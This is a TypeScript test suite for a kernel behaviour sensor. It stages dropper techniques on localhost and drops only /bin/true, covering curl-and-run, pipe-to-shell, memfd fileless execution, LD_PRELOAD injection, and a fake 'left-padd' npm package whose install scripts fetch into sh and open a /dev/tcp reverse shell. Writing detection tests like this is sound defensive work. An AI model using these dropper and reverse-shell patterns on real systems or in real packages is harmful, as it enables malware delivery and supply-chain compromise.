/**
 * Real droppers under the real kernel sensor: a program is fetched over HTTP from this machine, marked and run;
 * programs run from memory, shared memory, hidden and removed files; libraries are forced in; a package's script
 * does what no installation needs. What they drop is /bin/true.
 */
import { execFile, spawn, spawnSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createTcp, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacks } from '../need.ts';
import { lacksKernel, startWatch, type Watch } from '../live/kernel.ts';
import type { AlertLine } from '../live/moat.ts';

const execute = promisify(execFile);
const python = '/usr/bin/python3';
const summary = (alert: AlertLine): string => (alert as unknown as { summary: string }).summary;

describe.skipIf(lacks({ root: true, files: ['/usr/bin/curl', '/usr/sbin/runuser'] }) || await lacksKernel())('droppers', () => {
  let watch: Watch;
  let server: Server;
  let port: number;
  const folder = mkdtempSync(join(tmpdir(), 'drop-'));
  const shared = mkdtempSync('/dev/shm/drop-');
  /** A piece of work of its own, below a program that hands over accounts. */
  const job = async (script: string, file = join(folder, `job-${Math.random().toString(36).slice(2)}.sh`)): Promise<void> => {
    writeFileSync(file, script);
    await execute('/usr/sbin/runuser', ['-u', 'root', '--', '/bin/sh', file], { cwd: folder });
  };
  const told = (id: string, text: string): Promise<AlertLine> => watch.waitFor((one) => one.rule_id === `behaviour.${id}` && summary(one).includes(text), `${id} of ${text}`);

  beforeAll(async () => {
    watch = await startWatch({ behaviours: ['triad', 'download-run', 'odd-exec-place', 'preload-exec', 'package-child'], settings: { triad: { local: true }, 'download-run': { local: true } } });
    const program = readFileSync('/bin/true');
    server = createServer((request, response) => { response.end(request.url === '/script' ? 'true dropped\n' : program); });
    await new Promise<void>((resolve) => { server.listen(0, '127.0.0.1', resolve); });
    port = (server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    await watch?.end();
    server?.close();
    rmSync(folder, { recursive: true, force: true });
    rmSync(shared, { recursive: true, force: true });
  });

  it('fetch, mark and run: both the run and the triad, with the address', async () => {
    const file = join(folder, 'payload');
    await job(`curl -so ${file} http://127.0.0.1:${port}/x\nchmod +x ${file}\nsleep 0.3\n${file}\n`);
    expect(summary(await told('download-run', `${file}, fetched by /usr/bin/curl`))).toContain(`from 127.0.0.1:${port}`);
    const alert = await told('triad', file);
    expect(['medium', 'high', 'critical']).toContain(alert.level);
    expect(summary(alert)).toContain(`connected to 127.0.0.1:${port}`);
  });

  it('through a shell, through the loader, by a pipe and by python', async () => {
    const loader = '/lib64/ld-linux-x86-64.so.2';
    await job(`curl -so ${folder}/a http://127.0.0.1:${port}/script; sh ${folder}/a`);
    await told('download-run', `${folder}/a, fetched`);
    if (existsSync(loader)) {
      await job(`curl -so ${folder}/b http://127.0.0.1:${port}/x; ${loader} ${folder}/b`);
      await told('download-run', `${folder}/b, fetched`);
    }
    await job(`curl -s http://127.0.0.1:${port}/x | cat > ${folder}/c; chmod 755 ${folder}/c; ${folder}/c`);
    await told('download-run', `${folder}/c, fetched`);
    if (lacks({ files: [python], why: 'a download by python' })) return;
    writeFileSync(join(folder, 'd.py'), `import urllib.request,os\nopen("${folder}/d.part","wb").write(urllib.request.urlopen("http://127.0.0.1:${port}/x").read())\nos.rename("${folder}/d.part","${folder}/d")\nos.chmod("${folder}/d",0o755)\nos.system("${folder}/d")\n`);
    await job(`${python} ${folder}/d.py`);
    await told('download-run', `${folder}/d, fetched`);
  });

  it('shared memory, hidden and removed files, memory', async () => {
    const inShared = join(shared, 'x');
    copyFileSync('/bin/true', inShared);
    await job(`${inShared}; true`);
    await told('odd-exec-place', inShared);
    mkdirSync(join(folder, '.hide'));
    const hidden = join(folder, '.hide', 'x');
    copyFileSync('/bin/true', hidden);
    await job(`${hidden}; true`);
    expect((await told('odd-exec-place', hidden)).level).toBe('high');
    if (lacks({ files: [python], why: 'a fileless loader' })) return;
    writeFileSync(join(folder, 'memory.py'), `import os\nfd=os.memfd_create("drop-memory",0)\nos.write(fd,open("/bin/true","rb").read())\nos.execve(fd,["kworker"],{})\n`);
    await job(`${python} ${folder}/memory.py`);
    expect((await told('odd-exec-place', 'memfd:drop-memory')).level).toBe('critical');
    writeFileSync(join(folder, 'gone.py'), `import os,shutil\nshutil.copy("/bin/true","${folder}/gone")\nos.chmod("${folder}/gone",0o755)\nfd=os.open("${folder}/gone",os.O_RDONLY)\nos.unlink("${folder}/gone")\nos.execve(fd,["gone"],{})\n`);
    await job(`${python} ${folder}/gone.py`);
    expect(['high', 'critical']).toContain((await told('odd-exec-place', `${folder}/gone`)).level);
  });

  it('a library forced into a program, and into all', async () => {
    const library = join(folder, 'forced.so');
    copyFileSync('/lib/x86_64-linux-gnu/libdl.so.2', library);
    await job(`LD_PRELOAD=${library} /bin/true`);
    expect((await told('preload-exec', `LD_PRELOAD=${library}`)).level).toBe('high');
    await job(`LD_LIBRARY_PATH=${folder}/libs /bin/true`);
    await told('preload-exec', `LD_LIBRARY_PATH=${folder}/libs`);
    // In a mount namespace of its own, over an empty /etc, with nothing in the file.
    spawnSync('/usr/bin/unshare', ['--mount', '--propagation', 'private', '/bin/sh', '-c', 'mount -t tmpfs tmpfs /etc && : > /etc/ld.so.preload']);
    expect((await told('preload-exec', '/etc/ld.so.preload')).level).toBe('critical');
  });

  it('a script of a package opens a shell, and one hands a download to a shell', async () => {
    const project = join(folder, 'project');
    mkdirSync(project);
    const far = createTcp((socket) => { socket.on('error', () => socket.destroy()); setTimeout(() => socket.end('exit\n'), 300); });
    await new Promise<void>((resolve) => { far.listen(0, '127.0.0.1', resolve); });
    const farPort = (far.address() as AddressInfo).port;
    writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'left-padd', version: '1.0.0', scripts: { preinstall: `curl -s http://127.0.0.1:${port}/script | sh`, postinstall: `bash -c 'bash -i >& /dev/tcp/127.0.0.1/${farPort} 0>&1'` } }));
    try {
      const npm = spawn('npm', ['install', '--offline', '--ignore-scripts=false', '--no-audit', '--no-fund'], { cwd: project, stdio: 'ignore', env: { ...process.env, HOME: folder, npm_config_update_notifier: 'false' } });
      await new Promise((resolve) => { npm.once('exit', resolve); });
      const shell = await watch.waitFor((one) => one.rule_id === 'behaviour.package-child' && one.level === 'critical', 'of the shell');
      expect(summary(shell)).toMatch(/While npm installed/);
      await sleep(200);
    } finally { far.close(); }
  });

  it('ordinary work beside it is not told', async () => {
    const before = watch.alerts.length;
    await job(`cp /bin/true ${folder}/own; ${folder}/own --version > /dev/null; LD_PRELOAD=libm.so.6 /bin/true; echo 'int main(void){return 0;}' > ${folder}/conftest.c; cp /bin/true ${folder}/conftest; ${folder}/conftest; curl -so ${folder}/page http://127.0.0.1:${port}/script; cat ${folder}/page > /dev/null`);
    await sleep(700);
    const mine = watch.alerts.slice(before).filter((one) => one.rule_id.startsWith('behaviour.') && summary(one).includes(folder));
    // A program of its own in /tmp is no secret: told, but as no more than what it is.
    // The script of the job itself is written by this very process.
    expect(mine.filter((one) => !summary(one).includes(`${folder}/own`) && !summary(one).includes(`${folder}/job-`)).map(summary)).toEqual([]);
  });
});
